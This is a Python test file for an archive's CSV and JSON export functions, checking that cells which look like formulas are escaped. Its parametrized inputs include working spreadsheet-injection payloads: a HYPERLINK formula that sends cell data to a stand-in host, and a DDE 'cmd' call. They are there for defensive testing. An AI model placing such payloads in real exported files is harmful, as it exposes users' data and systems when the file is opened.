import csv
import io
import json
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.export_formats.tables import as_csv, as_json, as_ndjson
from archive.exported import ExportedRecord

MakeRecord = Callable[..., ExportedRecord]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.test/"&A1,"Read")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "  =1",
        "\u00a0\ufeff=1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_calculate_is_text(
    title: str, make_record: MakeRecord
) -> None:
    (row,) = rows("".join(as_csv([make_record(title=title)])))
    assert row["title"] == f"'{title}"


def test_a_plain_cell_stays_as_it_is(make_record: MakeRecord) -> None:
    title = 'A "quoted" title, with commas; and\nlines = two'
    (row,) = rows("".join(as_csv([make_record(title=title, authors=("-one", "two"))])))
    assert row["title"] == title
    assert row["authors"] == "'-one; two"
    assert row["modified"] == ""


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=5))
def test_csv_brings_back_every_value_and_no_cell_is_a_formula(titles: list[str]) -> None:
    made = [_record(number, title) for number, title in enumerate(titles, 1)]
    found = rows("".join(as_csv(made)))
    assert [row["title"].removeprefix("'") for row in found] == [
        title.removeprefix("'") for title in titles
    ]
    cells = [cell.lstrip(" \u00a0") for row in found for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")]


def _record(number: int, title: str) -> ExportedRecord:
    return ExportedRecord(
        id=number,
        title=title,
        url="http://gazette.test/",
        source="gazette",
        source_name=title,
        published=None,
        published_precision=None,
        modified=None,
        authors=(),
        language=None,
        word_count=1,
        licence=None,
        first_seen_at="2026-11-22T05:26:03Z",
        excerpt=title,
    )


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=5))
def test_json_and_its_lines_say_the_same(titles: list[str]) -> None:
    made = [_record(number, title) for number, title in enumerate(titles, 1)]
    whole = json.loads("".join(as_json(made)))
    lines = "".join(as_ndjson(made))
    assert whole == [json.loads(line) for line in lines.split("\n") if line]
    assert [item["title"] for item in whole] == titles


def test_the_full_text_is_a_field_only_when_it_was_asked_for(make_record: MakeRecord) -> None:
    without, whole = make_record(), make_record(text="All of this invented text.")
    assert "text" not in json.loads("".join(as_ndjson([without])))
    assert json.loads("".join(as_ndjson([whole])))["text"] == whole.text
    assert "text" not in rows("".join(as_csv([without])))[0]
    assert rows("".join(as_csv([whole])))[0]["text"] == whole.text


def test_no_record_is_a_header_an_empty_array_and_no_line() -> None:
    assert "".join(as_csv([])).startswith("id,title,url,")
    assert json.loads("".join(as_json([]))) == []
    assert "".join(as_ndjson([])) == ""


def test_topics_stand_in_one_cell_and_in_one_array(make_record: MakeRecord) -> None:
    made = [make_record(topics=("sextortion", "grooming"))]
    (row,) = rows("".join(as_csv(made)))
    assert row["topics"] == "sextortion; grooming"
    (item,) = json.loads("".join(as_json(made)))
    assert item["topics"] == ["sextortion", "grooming"]
